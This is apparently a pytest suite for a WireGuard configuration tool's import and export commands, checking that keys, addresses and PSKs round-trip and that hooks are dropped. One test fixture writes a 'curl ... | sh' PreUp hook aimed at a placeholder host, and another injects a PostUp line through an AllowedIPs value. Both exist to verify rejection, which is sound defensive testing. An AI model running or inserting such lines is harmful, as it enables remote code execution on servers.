"""Import from wg-quick files, PiVPN and wg-easy (v14 JSON, v15 SQLite), and export to wg-quick and linuxserver: every
key, PSK, address and AllowedIPs kept, hooks reported and dropped, conflicts shown before anything is written."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from bulwark_vpn.render.wgquick import parse_config
from tests.helpers import bulwark, snapshot

FIXTURES = Path(__file__).parent / "fixtures" / "import"


def _copy(name: str, tmp_path: Path) -> Path:
    target = tmp_path / name
    shutil.copytree(FIXTURES / name, target)
    return target


def _sources(tmp_path: Path) -> dict[str, tuple[list[str], list[Path]]]:
    """format -> (import arguments, the client configs the tool gave its users)."""
    quick, pivpn = _copy("wg-quick", tmp_path), _copy("pivpn", tmp_path)
    v14, v15 = _copy("wg-easy-v14", tmp_path), _copy("wg-easy-v15", tmp_path)
    return {
        "wg-quick": (["wg-quick", str(quick / "wg0.conf"), str(quick / "laptop.conf"), str(quick / "phone.conf")],
                     [quick / "laptop.conf", quick / "phone.conf"]),
        "pivpn": (["pivpn", str(pivpn)], sorted((pivpn / "configs").glob("*.conf"))),
        "wg-easy-v14": (["wg-easy", str(v14 / "wg0.json")], sorted(v14.glob("client-*.conf"))),
        "wg-easy-v15": (["wg-easy", str(v15 / "wg-easy.db")], sorted(v15.glob("client-*.conf"))),
    }


@pytest.mark.parametrize("kind", ["wg-quick", "pivpn", "wg-easy-v14", "wg-easy-v15"])
def test_an_import_keeps_every_key_psk_and_address_and_drops_hooks(tmp_path, kind):
    args, client_files = _sources(tmp_path)[kind]
    config = tmp_path / "bulwark"
    dry = bulwark("import", *args, "--dry-run", "--json", "--config-dir", str(config))
    plan = json.loads(dry.stdout)
    assert plan["conflicts"] == [] and plan["dry_run"] and not config.exists()
    env = {"WG_HOST": "192.0.2.1"} if kind == "wg-easy-v14" else {}
    from tests.helpers import clean_env

    bulwark("import", *args, "--config-dir", str(config), env=clean_env(**env))
    server_text = (config / "wg_confs/wg0.conf").read_text()
    assert "PostUp" not in server_text and "PreUp" not in server_text and "Table" not in server_text
    server = parse_config(server_text)
    by_key = {p.public_key: p for p in server.peers}
    listed = {p["public_key"]: p for p in json.loads(
        bulwark("peer", "list", "--json", "--config-dir", str(config)).stdout)["peers"]}
    for path in client_files:
        client = parse_config(path.read_text())
        public = client.interface.private_key.public_key()
        view = client.peers[0]
        assert view.public_key == server.interface.private_key.public_key()
        peer = listed[str(public)]
        assert peer["has_private_key"]
        assert peer["address4"] in {str(a.ip) for a in client.interface.addresses}
        assert set(peer["allowed_ips"]) == {str(n) for n in view.allowed_ips}
        if not peer["enabled"]:
            assert public not in by_key
            continue
        assert by_key[public].preshared_key == view.preshared_key
        # Bulwark renders the same client again: same private key, PSK, server key and Endpoint.
        name = peer["name"]
        rendered = parse_config(bulwark("peer", "show", name, "--config-dir", str(config)).stdout)
        assert rendered.interface.private_key == client.interface.private_key
        assert rendered.peers[0].preshared_key == view.preshared_key
        assert rendered.peers[0].endpoint == view.endpoint
        assert set(rendered.peers[0].allowed_ips) == set(view.allowed_ips)


def test_a_wg_quick_import_reports_hooks_names_and_public_key_only_peers(tmp_path):
    args, _ = _sources(tmp_path)["wg-quick"]
    config = tmp_path / "bulwark"
    result = bulwark("import", *args, "--dry-run", "--config-dir", str(config))
    out = result.stdout
    assert "PostUp dropped: a command, never imported" in out and "PostDown dropped" in out
    assert "SaveConfig dropped" in out and "office_router" in out and "(public key only)" in out
    bulwark("import", *args, "--config-dir", str(config))
    router = json.loads(bulwark("peer", "list", "--json", "--search", "office", "--config-dir",
                                str(config)).stdout)["peers"][0]
    assert router["server_allowed_ips"] == ["192.168.50.0/24"] and not router["has_private_key"]
    assert router["address4"] == "10.20.0.10"
    # A new peer takes a free address, never an imported one.
    bulwark("peer", "add", "new", "--config-dir", str(config))
    new = json.loads(bulwark("peer", "show", "new", "--json", "--config-dir", str(config)).stdout)
    assert "10.20.0.2/32" not in new["text"] and "10.20.0.10/32" not in new["text"]


def _server(tmp_path: Path, peers: list[str], *, extra: str = "") -> Path:
    from bulwark_vpn.keys import PrivateKey

    lines = ["[Interface]", "Address = 10.30.0.1/24", "ListenPort = 51820",
             f"PrivateKey = {PrivateKey.generate().to_base64()}", extra, ""]
    lines += peers
    path = tmp_path / "bad.conf"
    path.write_text("\n".join(lines) + "\n")
    return path


def _peer(address: str, key: str | None = None) -> str:
    from bulwark_vpn.keys import PrivateKey

    key = key or PrivateKey.generate().public_key().to_base64()
    return f"[Peer]\nPublicKey = {key}\nAllowedIPs = {address}\n"


def test_conflicts_are_all_shown_by_a_dry_run_and_refuse_the_import(tmp_path):
    from bulwark_vpn.keys import PrivateKey

    twice = PrivateKey.generate().public_key().to_base64()
    path = _server(tmp_path, [_peer("10.30.0.2/32", twice), _peer("10.30.0.3/32", twice), _peer("10.30.0.4/32"),
                              _peer("10.30.0.4/32"), _peer("10.99.0.5/32")],
                   extra="PreUp = curl http://example.invalid/x | sh")
    config = tmp_path / "bulwark"
    dry = bulwark("import", "wg-quick", str(path), "--dry-run", "--config-dir", str(config), check=False)
    assert dry.returncode == 2
    conflicts = [line for line in dry.stdout.splitlines() if line.startswith("conflict:")]
    assert len(conflicts) == 3, dry.stdout
    assert any("used twice" in c and twice in c for c in conflicts)
    assert any("address 10.30.0.4 is used twice" in c for c in conflicts)
    assert any("outside" in c and "10.99.0.5" in c for c in conflicts)
    assert "PreUp dropped: a command, never imported" in dry.stdout and "curl" not in dry.stdout
    real = bulwark("import", "wg-quick", str(path), "--config-dir", str(config), check=False)
    assert real.returncode == 2 and len(real.stderr.strip().splitlines()) == 1 and str(path) in real.stderr
    assert "3 conflict(s)" in real.stderr and not config.exists()


@pytest.mark.parametrize("bad", ["PublicKey = not-a-key", "AllowedIPs = 10.30.0.2/32%\\nPostUp=x",
                                 "Endpoint = a b:1"])
def test_an_invalid_value_in_a_config_is_one_line_exit_2(tmp_path, bad):
    path = _server(tmp_path, [f"[Peer]\n{bad}\n"])
    config = tmp_path / "bulwark"
    result = bulwark("import", "wg-quick", str(path), "--config-dir", str(config), check=False)
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert not config.exists()


def test_importing_into_a_folder_in_use_needs_force_and_keeps_a_copy(tmp_path):
    args, _ = _sources(tmp_path)["pivpn"]
    config = tmp_path / "bulwark"
    bulwark("init", "--config-dir", str(config), "--peers", "old")
    before = snapshot(config)
    refused = bulwark("import", *args, "--config-dir", str(config), check=False)
    assert refused.returncode == 2 and "in use" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    assert snapshot(config) == before
    done = bulwark("import", *args, "--config-dir", str(config), "--force")
    assert "the replaced store was kept as" in done.stdout
    assert not (config / "peer_old").exists() and (config / "peer_alice/peer_alice.conf").is_file()
    assert list((config / "backups").glob("replaced-*.tar.gz"))


def test_export_linuxserver_is_adopted_back_and_export_wg_quick_is_plain(tmp_path):
    config = tmp_path / "c"
    bulwark("init", "--config-dir", str(config), "--server-url", "203.0.113.9", "--peers", "leo_mac,2")
    ls = tmp_path / "ls"
    result = json.loads(bulwark("export", "linuxserver", str(ls), "--json", "--config-dir", str(config)).stdout)
    assert result["client_configs"] == 2 and "wg_confs/wg0.conf" in result["files"]
    assert "PostUp = iptables" in (ls / "wg_confs/wg0.conf").read_text()  # linuxserver's own NAT lines
    assert 'ORIG_PEERS="leo_mac,2"' in (ls / ".donoteditthisfile").read_text()
    assert all(p.stat().st_mode & 0o077 == 0 for p in ls.rglob("*") if p.is_file() and "privatekey" in p.name)
    from tests.helpers import clean_env

    bulwark("init", "--config-dir", str(ls), env=clean_env(PEERS="leo_mac,2", SERVERURL="203.0.113.9"))
    original = json.loads(bulwark("peer", "list", "--json", "--config-dir", str(config)).stdout)["peers"]
    adopted = json.loads(bulwark("peer", "list", "--json", "--config-dir", str(ls)).stdout)["peers"]
    key = lambda p: (p["name"], p["public_key"], p["address4"])  # noqa: E731
    assert sorted(map(key, adopted)) == sorted(map(key, original))
    assert (ls / "peer_leo_mac/peer_leo_mac.conf").read_text() == \
        (config / "peer_leo_mac/peer_leo_mac.conf").read_text()

    quick = tmp_path / "quick"
    bulwark("export", "wg-quick", str(quick), "--config-dir", str(config))
    server = parse_config((quick / "wg0.conf").read_text())
    assert len(server.peers) == 2 and "PostUp" not in (quick / "wg0.conf").read_text()
    assert sorted(p.name for p in (quick / "clients").iterdir()) == ["peer2.conf", "peer_leo_mac.conf"]
    again = bulwark("export", "wg-quick", str(quick), "--config-dir", str(config), check=False)
    assert again.returncode == 2 and "not empty" in again.stderr
    # And back: the exported files import into a new folder with the same keys.
    back = tmp_path / "back"
    bulwark("import", "wg-quick", str(quick / "wg0.conf"), *map(str, sorted((quick / "clients").iterdir())),
            "--config-dir", str(back))
    returned = json.loads(bulwark("peer", "list", "--json", "--config-dir", str(back)).stdout)["peers"]
    assert sorted((p["public_key"], p["address4"]) for p in returned) == \
        sorted((p["public_key"], p["address4"]) for p in original)
